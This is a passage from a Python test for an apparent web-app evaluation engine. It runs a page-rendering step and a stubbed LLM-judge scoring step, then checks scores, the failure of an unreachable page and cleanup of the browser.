            "nodes": [
                {
                    "id": "UI_HOME",
                    "steps": [
                        {"type": "RENDER_DOM", "inputs": {"url": "{{base_url}}/js.html", "settle_ms": 0}},
                        {"type": "P17", "inputs": {"rubric_prompt": "Rate the UI", "evidence_type": "rendered_dom"}},
                    ],
                    "scoring": {"category": "UI", "method": "llm-judge", "maxScore": 10},
                },
                {
                    "id": "UI_DOWN",
                    "steps": [
                        {"type": "RENDER_DOM", "inputs": {"url": f"http://127.0.0.1:{closed_port()}/x"}},
                        {"type": "P17", "inputs": {"rubric_prompt": "Rate", "evidence_type": "rendered_dom"}},
                    ],
                    "scoring": {"category": "UI", "method": "llm-judge", "maxScore": 5},
                },
            ]
        }
    ).dag
    saved = REGISTRY.spec("P17")
    assert saved is not None and saved.fn is not None
    REGISTRY.register("P17", fake_judge, FakeJudgeInputs)
    try:
        ctx = RunContext(
            Target(base_url=pages),
            options=RunOptions(judge_enabled=True),  # the fake judge is "configured"
            variables={"evidence_dir": str(tmp_path / "ev")},
        )
        report = Engine(dag, ctx).run()
    finally:
        REGISTRY.register("P17", saved.fn, saved.inputs, raw_fields=saved.raw_fields)
    nodes = {n.id: n for n in report.nodes}
    assert nodes["UI_HOME"].status == Status.PASSED and nodes["UI_HOME"].score == 8.0
    assert len(seen) == 1 and "Rendered by JavaScript" in seen[0]
    assert nodes["UI_DOWN"].status == Status.FAILED  # the app's failure, not the judge's outage
    assert "browser" not in ctx.resources  # the engine closed the run's browser
